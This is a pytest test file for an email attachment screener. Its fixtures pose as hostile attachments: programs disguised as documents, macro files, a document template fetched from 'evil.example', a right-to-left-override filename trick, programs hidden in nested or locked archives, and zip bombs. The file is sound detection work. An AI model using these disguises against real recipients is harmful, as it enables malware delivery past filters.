"""What attachments are and hold, whatever they are called."""

import pytest
from tests.support import files

from tayori.screen.files.kinds import Kind, kind_of
from tayori.screen.files.look import look_at_file


def reasons(name, content):
    return [finding.reason.value for finding in look_at_file(name, content)]


def where(name, content):
    return [finding.fields["file"] for finding in look_at_file(name, content)]


GOOD = {
    "minutes.pdf": files.PDF,
    "photo.jpg": files.PNG,  # one image under the name of another
    "letter.rtf": files.RTF,
    "letter.doc": files.RTF,
    "table.xls": files.HTML,  # what many programs write
    "old.doc": files.compound("WordDocument", "1Table"),
    "mail.msg": files.compound("__properties_version1.0"),
    "letter.docx": files.document(),
    "with-a-password.docx": files.compound("EncryptedPackage", "EncryptionInfo"),
    "embedded.docx": files.document(word__embeddings__sheet1=files.document()),
    "page.html": files.HTML,
    "list.csv": b"name,amount\nAnn,3\n",
    "BMW.txt": b"BMW and MZ are names of makers.",
    "MZ.txt": b"MZ was a maker of motorcycles, and this text is longer than any header.",
    "notes.txt": b"#!/bin/sh is how scripts begin",
    "empty.txt": b"",
    "broken.pdf": b"nothing that has a mark",
    "song.mp3": b"ID3\x03\x00" + bytes(30),
    "photos.zip": files.zipped({"a/1.jpg": files.JPEG, "b.pdf": files.PDF, "read me.txt": b"x"}),
    "nested.zip": files.zipped({"in.zip": files.zipped({"b.pdf": files.PDF}), "c.tar": b""}),
    "two.tar": files.tarred({"a.txt": b"x" * 700, "long" * 40 + ".txt": b"y"}),
    "packed.zip": files.zipped({"logs.tar.gz": files.tarred({"a.log": b"x"}, packed="gz")}),
    "about-vba.doc": files.compound("WordDocument") + "_VBA_PROJECT\0".encode("utf-16-le"),
    "zeros.zip": files.zipped({"zeros.bmp": bytes(4_000_000)}),
}
BAD = {
    "program": ("setup.pdf", files.PE, "program"),
    "by name": ("run.js", b"alert(1)", "program"),
    "linux": ("tool.txt", files.ELF, "program"),
    "shortcut": ("a.txt", files.SHORTCUT, "program"),
    "installer": (
        "a.doc",
        files.compound() + bytes.fromhex("84100c0000000000c000000000000046"),
        "program",
    ),
    "macros": ("a.docm", files.macro_document(), "macros"),
    "macros as a harmless document": ("a.docx", files.macro_document(), "macros"),
    "macros by another name": ("a.docx", files.macro_document(renamed=True), "macros"),
    "old macros": ("a.doc", files.compound("Macros", "_VBA_PROJECT"), "macros"),
    "packed file": ("a.doc", files.compound("\x01Ole10Native"), "macros"),
    "macro sheet": ("a.xlsx", files.document(xl__macrosheets__sheet1=b"x"), "macros"),
    "macros in OpenDocument": ("a.odt", files.zipped({"Basic/Standard/M.xml": b"x"}), "macros"),
    "fetched template": (
        "a.docx",
        files.zipped(
            {
                "[Content_Types].xml": b"",
                "word/_rels/settings.xml.rels": b'<Relationship Type="http://x/attachedTemplate" '
                b'Target="https://evil.example/t.dotm" TargetMode="External"/>',
            }
        ),
        "macros",
    ),
    "object in RTF": ("a.doc", files.RTF_OBJECT, "macros"),
    "embedded with macros": (
        "a.docx",
        files.document(**{"word__embeddings__o.bin": files.compound("VBA")}),
        "macros",
    ),
    "page as document": ("invoice.pdf", files.HTML, "disguised_file"),
    "archive as image": ("photo.png", files.zipped({"a.txt": b"x"}), "disguised_file"),
    "turned name": ("invoice\u202ecod.txt", b"x", "disguised_file"),
    "encrypted": ("a.zip", files.locked({"a.txt": b"x"}), "locked_archive"),
    "encrypted within": (
        "a.zip",
        files.zipped({"b.zip": files.locked({"a.txt": b"x"})}),
        "locked_archive",
    ),
    "damaged": ("a.zip", files.zipped({"a.txt": b"x"})[:-30], "locked_archive"),
    "rar": ("a.zip", files.zipped({"b.rar": files.RAR}), "locked_archive"),
    "program within": ("a.zip", files.zipped({"b.txt": files.PE}), "program"),
    "named program within": ("a.zip", files.zipped({"invoice.pdf.exe ": b"x"}), "program"),
    "deep": (
        "a.zip",
        files.zipped({"b.tar": files.tarred({"c.txt.gz": files.gzipped(files.PE)})}),
        "program",
    ),
    "before the archive": ("a.zip", b"junk" * 9 + files.zipped({"b.exe": b"x"}), "program"),
    "too deep": ("a.zip", files.bomb(6, 1), "archive_bomb"),
    "bomb": ("a.zip", files.bomb(4), "archive_bomb"),
    "many": (
        "a.zip",
        files.zipped({f"{number}": b"" for number in range(5_001)}),
        "archive_bomb",
    ),
    "grows": ("a.zip", files.zipped({"a.bmp": bytes(64_000_000)}), "archive_bomb"),
    "grows in gzip": ("a.tar", files.growing(100_000_000), "archive_bomb"),
}


@pytest.mark.parametrize("name", GOOD)
def test_honest_files_pass(name):
    assert look_at_file(name, GOOD[name]) == ()


@pytest.mark.parametrize("case", BAD)
def test_each_danger_is_found_by_its_name(case):
    name, content, reason = BAD[case]
    assert reasons(name, content)[:1] == [reason]


def test_a_finding_names_the_way_to_the_file():
    inner = files.zipped({"b.exe": b"x"})
    assert where("a.zip", files.zipped({"in/b.zip": inner})) == ["a.zip > in/b.zip > b.exe"]


def test_a_name_that_stands_twice_hides_nothing():
    content = bytearray(files.zipped({"1.doc": bytes(50_000), "2.doc": files.PE * 200}))
    assert reasons("a.zip", bytes(content).replace(b"2.doc", b"1.doc")) == ["program"]


def test_all_findings_are_told_and_not_more_than_a_few():
    many = files.zipped({f"{number}.exe": b"x" for number in range(50)})
    assert len(look_at_file("a.zip", many)) == 5


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (files.gzipped(b"x"), Kind.GZIP),
        (files.tarred({"a": b"x"}, packed="bz2"), Kind.BZIP2),
        (files.tarred({"a": b"x"}, packed="xz"), Kind.XZ),
        (files.tarred({"a": b"x"}), Kind.TAR),
        (b"\0" * 32_769 + b"CD001", Kind.CLOSED_ARCHIVE),
        (b"\xef\xbb\xbf  <?xml version='1.0'?><a/>", Kind.XML),
        (b"<?xml version='1.0'?>\n<!DOCTYPE html PUBLIC>", Kind.HTML),
        (b"\0\0\0\x20ftypM4A ", Kind.AUDIO),
        (b"\0\0\0\x20ftypisom", Kind.VIDEO),
        (b"RIFF\0\0\0\0WEBP", Kind.IMAGE),
        (b"BM\x10\0\0\0\0\0\0\0", Kind.IMAGE),
        (b"%!PS-Adobe", Kind.POSTSCRIPT),
    ],
)
def test_kinds(content, kind):
    assert kind_of(content) is kind


@pytest.mark.parametrize("packed", ["gz", "bz2", "xz"])
def test_packed_tar_archives_are_looked_into(packed):
    content = files.zipped({f"x.tar.{packed}": files.tarred({"b.exe": b"x"}, packed=packed)})
    assert reasons("a.zip", content) == ["program"]
